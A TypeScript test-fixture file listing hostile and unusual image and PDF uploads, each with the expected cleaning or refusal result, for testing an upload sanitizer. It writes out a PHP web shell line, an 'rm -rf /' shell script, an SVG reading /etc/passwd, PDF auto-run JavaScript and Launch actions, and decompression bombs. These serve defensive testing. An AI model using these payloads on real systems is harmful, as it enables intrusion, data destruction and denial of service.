import { deflateSync, gzipSync } from 'node:zlib'
import type { RefusalReason } from '@pahiya/contract/files/uploads'
import { largestUploadBytes } from '@pahiya/domain/files/uploads'
import { PDFDocument } from 'pdf-lib'
import { examplePicture } from '../examples/example-picture.ts'
import {
  apng,
  billionLaughs,
  brokenTable,
  bytes,
  exifJpeg,
  flatPng,
  gif,
  half,
  jpeg,
  manyChunks,
  movingWebp,
  noise,
  noisy,
  png,
  buildPng,
  pngSignature,
  sized,
  sizedWebp,
  svg,
  text,
  webp,
  withChunk,
  withSegment,
  wrongChecksum,
  zeros,
  buildZip,
} from './hostile-bytes.ts'
import { buildPdf, buildPaperScan } from './hostile-pdf.ts'

export type HostileFile = {
  name: string
  kind: 'photo' | 'paper'
  make: () => Promise<Buffer> | Buffer
  /** cleaned: a plain picture or plain pages remain. Several values where decoders differ in what they detect. */
  expect: 'cleaned' | RefusalReason | readonly (RefusalReason | 'cleaned')[]
  /** Content that must be gone after cleaning. */
  without?: string
}

const secret = 'Somebody Unmistakable'
const script = '<script>alert(1)</script>'
const php = '<?php system($_GET["c"]); ?>'
const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR', '-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('')

const zip = buildZip('evil.txt', text('PK inside'))

const photo = (
  name: string,
  make: HostileFile['make'],
  expected: HostileFile['expect'],
  without?: string,
): HostileFile => ({
  name,
  kind: 'photo',
  make,
  expect: expected,
  ...(without !== undefined && { without }),
})
const paper = (...rest: Parameters<typeof photo>): HostileFile => ({ ...photo(...rest), kind: 'paper' })

/**
 * Files that a seller should never send, and some that look odd but are fine. Generated on demand; nothing is stored.
 */
export const hostileFiles: readonly HostileFile[] = [
  // Valid files, which are cleaned.
  photo('a JPEG', () => jpeg(), 'cleaned'),
  photo('a PNG', () => png(), 'cleaned'),
  photo('a WebP', () => webp(), 'cleaned'),
  photo('a progressive JPEG', () => examplePicture(4, 800, 600).jpeg({ progressive: true }).toBuffer(), 'cleaned'),
  photo(
    'a JPEG in four printing colours',
    () => examplePicture(4, 800, 600).toColourspace('cmyk').jpeg().toBuffer(),
    'cleaned',
  ),
  photo('a grey JPEG', () => examplePicture(4, 800, 600).greyscale().toColourspace('b-w').jpeg().toBuffer(), 'cleaned'),
  photo(
    'a PNG of 16 bits a colour',
    () => examplePicture(4, 400, 300).toColourspace('rgb16').png().toBuffer(),
    'cleaned',
  ),
  photo('a see-through PNG', () => examplePicture(4, 800, 600).ensureAlpha(0.3).png().toBuffer(), 'cleaned'),
  photo('EXIF with GPS and a name', () => exifJpeg(secret), 'cleaned', secret),
  photo(
    'a JPEG that lies on its side',
    () => examplePicture(5, 800, 600).withMetadata({ orientation: 6 }).jpeg().toBuffer(),
    'cleaned',
  ),
  photo(
    'XMP with a script',
    () => withSegment(0xe1, `http://ns.adobe.com/xap/1.0/\0<x>${script}</x>`),
    'cleaned',
    script,
  ),
  photo('a comment with PHP', () => withSegment(0xfe, php), 'cleaned', '<?php'),
  photo(
    'an ICC profile that is none',
    () => withSegment(0xe2, `ICC_PROFILE\0\u0001\u0001${secret}`),
    'cleaned',
    secret,
  ),
  photo(
    'a thumbnail of another photo in EXIF',
    async () => withSegment(0xe1, `Exif\0\0${(await jpeg(9, 160, 120)).toString('latin1')}`),
    'cleaned',
  ),
  photo('an APNG', apng, 'wrong-type'),
  photo('40 million pixels, just allowed', () => flatPng(8_000, 5_000), 'cleaned'),
  photo('100 pixels high, just allowed', () => jpeg(1, 400, 100), 'cleaned'),
  // Two files in one.
  photo('a JPEG with a ZIP behind it', async () => Buffer.concat([await jpeg(), zip]), 'cleaned', 'PK\u0003\u0004'),
  photo(
    'a JPEG with a PDF behind it',
    async () => Buffer.concat([await jpeg(), await buildPaperScan()]),
    'cleaned',
    '%PDF',
  ),
  photo(
    'a JPEG with a page behind it',
    async () => Buffer.concat([await jpeg(), text(`<html>${script}`)]),
    'cleaned',
    script,
  ),
  photo(
    'a PNG with a page behind it',
    async () => Buffer.concat([await png(), text(`<html>${script}`)]),
    'cleaned',
    script,
  ),
  photo('a PNG with PHP in a text chunk', async () => withChunk('tEXt', text(`Comment\0${php}`)), 'cleaned', '<?php'),
  photo(
    'a WebP with a program behind it',
    async () => Buffer.concat([await webp(), text('MZ'), Buffer.alloc(2_000)]),
    'cleaned',
  ),
  photo('a GIF that is a JAR', () => Buffer.concat([gif(), zip]), 'wrong-type'),
  photo(
    'a page that begins as a JPEG',
    () => Buffer.concat([bytes(0xff, 0xd8, 0xff, 0xe0), text(`<html>${script}`)]),
    'broken-picture',
  ),
  photo('a page that begins as a PNG', () => Buffer.concat([pngSignature, text(`<html>${script}`)]), [
    'broken-picture',
    'wrong-type',
  ]),
  photo('a JPEG that begins as a PDF', async () => Buffer.concat([text('%PDF-1.7\n'), await jpeg()]), 'wrong-type'),
  // Types that are not photos.
  photo('an SVG', () => svg('<rect width="400" height="300"/>'), 'wrong-type'),
  photo('an SVG with a script', () => svg(script), 'wrong-type'),
  photo(
    'an SVG that reads a file',
    () => svg('<image href="file:///etc/passwd" width="400" height="300"/>'),
    'wrong-type',
  ),
  photo('an SVG with entities that multiply', () => text(billionLaughs), 'wrong-type'),
  photo('a page', () => text(`<!doctype html>${script}`), 'wrong-type'),
  photo('a script of a shell', () => text('#!/bin/sh\nrm -rf /\n'), 'wrong-type'),
  photo('PHP', () => text(php), 'wrong-type'),
  photo('a program for Windows', () => Buffer.concat([text('MZ'), Buffer.alloc(4_000)]), 'wrong-type'),
  photo(
    'a program for Linux',
    () => Buffer.concat([bytes(0x7f, 0x45, 0x4c, 0x46, 2, 1, 1), Buffer.alloc(4_000)]),
    'wrong-type',
  ),
  photo('a class of Java', () => Buffer.concat([bytes(0xca, 0xfe, 0xba, 0xbe), Buffer.alloc(500)]), 'wrong-type'),
  photo('a ZIP', () => zip, 'wrong-type'),
  photo('a document of Word', () => buildZip('word/document.xml', text('<w:document/>')), 'wrong-type'),
  photo('a gzip that unpacks to a gigabyte', () => gzipSync(Buffer.alloc(64 * 1024 * 1024)), 'wrong-type'),
  photo('a RAR', () => Buffer.concat([text('Rar!'), bytes(0x1a, 7, 1, 0), Buffer.alloc(100)]), 'wrong-type'),
  photo('a GIF', () => gif(), 'wrong-type'),
  photo('an AVIF', () => examplePicture(6, 200, 150).avif({ effort: 0 }).toBuffer(), 'wrong-type'),
  photo('a TIFF', () => examplePicture(6, 200, 150).tiff().toBuffer(), 'wrong-type'),
  photo('a HEIC', () => Buffer.concat([bytes(0, 0, 0, 0x18), text('ftypheic'), Buffer.alloc(200)]), 'wrong-type'),
  photo('a BMP', () => Buffer.concat([text('BM'), Buffer.alloc(500)]), 'wrong-type'),
  photo('an icon', () => Buffer.concat([bytes(0, 0, 1, 0, 1, 0), Buffer.alloc(200)]), 'wrong-type'),
  photo('a Photoshop file', () => Buffer.concat([text('8BPS'), bytes(0, 1), Buffer.alloc(200)]), 'wrong-type'),
  photo('a film', () => Buffer.concat([bytes(0, 0, 0, 0x18), text('ftypisom'), Buffer.alloc(500)]), 'wrong-type'),
  photo('a song', () => Buffer.concat([text('ID3'), Buffer.alloc(500)]), 'wrong-type'),
  photo('PostScript', () => text('%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (r) file\n'), 'wrong-type'),
  photo(
    'a list of drawing commands (MVG)',
    () => text('push graphic-context\nfill "url(https://127.0.0.1/x)"\n'),
    'wrong-type',
  ),
  photo('a PDF where a photo belongs', () => buildPaperScan(), 'wrong-type'),
  photo('the test file of virus scanners', () => text(eicar), 'wrong-type'),
  photo('plain words', () => text('a photo, honestly'), 'wrong-type'),
  photo('nothing', () => Buffer.alloc(0), 'empty'),
  photo('one byte', () => bytes(0xff), 'wrong-type'),
  photo('a megabyte of zeros', () => Buffer.alloc(1024 * 1024), 'wrong-type'),
  photo('a megabyte of noise', () => noise(1024 * 1024), 'wrong-type'),
  photo(
    'one byte more than 5 MB',
    async () => Buffer.concat([await jpeg(), Buffer.alloc(largestUploadBytes)]).subarray(0, largestUploadBytes + 1),
    'too-large',
  ),
  // Broken, or larger than claimed.
  photo('half a JPEG', async () => half(await jpeg()), 'broken-picture'),
  photo('a hundred bytes of a JPEG', async () => (await jpeg()).subarray(0, 100), 'broken-picture'),
  photo('half a PNG', async () => half(await png()), 'broken-picture'),
  photo('half a WebP', async () => half(await webp()), 'broken-picture'),
  photo('a JPEG with noise in its middle', async () => noisy(await jpeg()), ['broken-picture', 'cleaned']),
  photo('a JPEG whose Huffman table is broken', brokenTable, 'broken-picture'),
  photo('a PNG whose checksums are wrong', async () => wrongChecksum(await png()), 'broken-picture'),
  photo('a PNG that is 0 wide', () => buildPng(0, 100, Buffer.alloc(100)), ['broken-picture', 'wrong-type']),
  photo('a PNG of 50,000 × 50,000', () => buildPng(50_000, 50_000, zeros(50_000 * 6_251)), 'too-many-pixels'),
  photo('a PNG that says 2,147,483,647 × 2,147,483,647', () => buildPng(2 ** 31 - 1, 2 ** 31 - 1, zeros(1_000)), [
    'too-many-pixels',
    'broken-picture',
  ]),
  photo('a PNG of 8,000 × 5,001', () => flatPng(8_000, 5_001), 'too-many-pixels'),
  photo('a JPEG that says 65,500 × 65,500', async () => sized(await jpeg(), 65_500), 'too-many-pixels'),
  photo('a JPEG that says 6,000 × 6,000 and has less', async () => sized(await jpeg(), 6_000), [
    'broken-picture',
    'cleaned',
  ]),
  photo('a WebP that says 16,383 × 16,383', async () => sizedWebp(await webp()), ['too-many-pixels', 'broken-picture']),
  photo(
    'a PNG with a text that unpacks to 200 MB',
    () => withChunk('zTXt', Buffer.concat([text('Comment\0\0'), zeros(200 * 1024 * 1024)])),
    ['cleaned', 'broken-picture', 'too-much-memory'],
  ),
  photo(
    'a PNG with a profile that unpacks to 200 MB',
    () => withChunk('iCCP', Buffer.concat([text('icc\0\0'), zeros(200 * 1024 * 1024)])),
    ['cleaned', 'broken-picture', 'too-much-memory'],
  ),
  photo('a PNG with 50,000 text chunks', manyChunks, ['cleaned', 'broken-picture']),
  photo('a JPEG of one pixel', () => jpeg(1, 1, 1), 'too-small'),
  photo('a JPEG 99 pixels high', () => jpeg(1, 400, 99), 'too-small'),
  photo('a WebP that moves', movingWebp, 'animated'),
  // Papers.
  paper('a scan as PDF', () => buildPaperScan(), 'cleaned'),
  paper('a scan as JPEG', () => jpeg(7, 1200, 1700), 'cleaned'),
  paper(
    'a PDF with a link',
    () =>
      buildPdf({
        page: '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://elsewhere.example/) >> >>]',
      }),
    'cleaned',
    'elsewhere.example',
  ),
  paper(
    'a PDF with a ZIP behind it',
    async () => Buffer.concat([await buildPaperScan(), zip]),
    ['cleaned', 'broken-pdf'],
    'PK\u0003\u0004',
  ),
  paper('a PDF with a page before it', async () => Buffer.concat([text(script), await buildPaperScan()]), [
    'wrong-type',
    'broken-pdf',
  ]),
  paper(
    'a PDF that runs a script when opened',
    () => buildPdf({ catalog: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>' }),
    'active-pdf',
  ),
  paper(
    'a PDF whose script is spelt #4a#53',
    () => buildPdf({ catalog: '/OpenAction << /S /#4aavaScript /#4a#53 (app.alert\\(1\\)) >>' }),
    'active-pdf',
  ),
  paper(
    'a PDF with named scripts',
    async () => {
      const pdf = await PDFDocument.create()
      pdf.addPage()
      pdf.addJavaScript('x', 'app.alert(1)')
      return Buffer.from(await pdf.save())
    },
    'active-pdf',
  ),
  paper(
    'a PDF whose page runs a script',
    () => buildPdf({ page: '/AA << /O << /S /JavaScript /JS (app.alert\\(1\\)) >> >>' }),
    'active-pdf',
  ),
  paper(
    'a PDF that starts a program',
    () => buildPdf({ catalog: '/OpenAction << /S /Launch /F (calc.exe) >>' }),
    'active-pdf',
  ),
  paper(
    'a PDF that opens another one',
    () => buildPdf({ catalog: '/OpenAction << /S /GoToR /F (\\\\\\\\127.0.0.1\\\\x.pdf) >>' }),
    'active-pdf',
  ),
  paper(
    'a PDF that sends a form away',
    () => buildPdf({ page: '/AA << /O << /S /SubmitForm /F (https://elsewhere.example) >> >>' }),
    'active-pdf',
  ),
  paper('a PDF with an XFA form', () => buildPdf({ catalog: '/AcroForm << /XFA (<xdp/>) >>' }), 'active-pdf'),
  paper(
    'a PDF with another file in it',
    async () => {
      const pdf = await PDFDocument.create()
      pdf.addPage()
      await pdf.attach(zip, 'x.zip')
      return Buffer.from(await pdf.save())
    },
    'active-pdf',
  ),
  paper(
    'a PDF with a film in it',
    () => buildPdf({ page: '/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]' }),
    'active-pdf',
  ),
  paper(
    'an encrypted PDF',
    () => buildPdf({ trailer: '/Encrypt << /Filter /Standard /V 2 /R 3 /O (x) /U (y) /P -4 >> /ID [(a) (b)]' }),
    'encrypted-pdf',
  ),
  paper('a PDF without pages', () => buildPdf({ kids: '' }), 'broken-pdf'),
  paper(
    'a PDF of 21 pages',
    async () => {
      const pdf = await PDFDocument.create()
      for (let i = 0; i < 21; i += 1) pdf.addPage()
      return Buffer.from(await pdf.save())
    },
    'too-many-pages',
  ),
  paper('a PDF whose pages are in a circle', () => buildPdf({ kids: '2 0 R' }), [
    'broken-pdf',
    'took-too-long',
    'too-much-memory',
    'broken-picture',
  ]),
  paper(
    'a PDF with lists in lists, 20,000 deep',
    () => buildPdf({ page: `/X ${'['.repeat(20_000)}${']'.repeat(20_000)}` }),
    ['broken-pdf', 'active-pdf', 'broken-picture'],
  ),
  paper(
    'a PDF that unpacks to a gigabyte',
    () => buildPdf({ stream: { filter: '/FlateDecode', bytes: zeros(1024 * 1024 * 1024) } }),
    'too-much-memory',
  ),
  paper(
    'a PDF that unpacks twice',
    () =>
      buildPdf({ stream: { filter: '[/FlateDecode /FlateDecode]', bytes: deflateSync(zeros(1024 * 1024 * 1024)) } }),
    'too-much-memory',
  ),
  paper(
    'a PDF with a picture of 50,000 × 50,000',
    () =>
      buildPdf({
        stream: { filter: '/DCTDecode /Width 50000 /Height 50000 /Subtype /Image', bytes: Buffer.from('x') },
      }),
    'too-much-memory',
  ),
  paper('half a PDF', async () => half(await buildPaperScan()), 'broken-pdf'),
  paper('words that begin as a PDF', () => text(`%PDF-1.7\n${'hello '.repeat(200)}`), 'broken-pdf'),
  paper('a document of Word as paper', () => buildZip('word/document.xml', text('<w:document/>')), 'wrong-type'),
  paper('an SVG as paper', () => svg(script), 'wrong-type'),
]
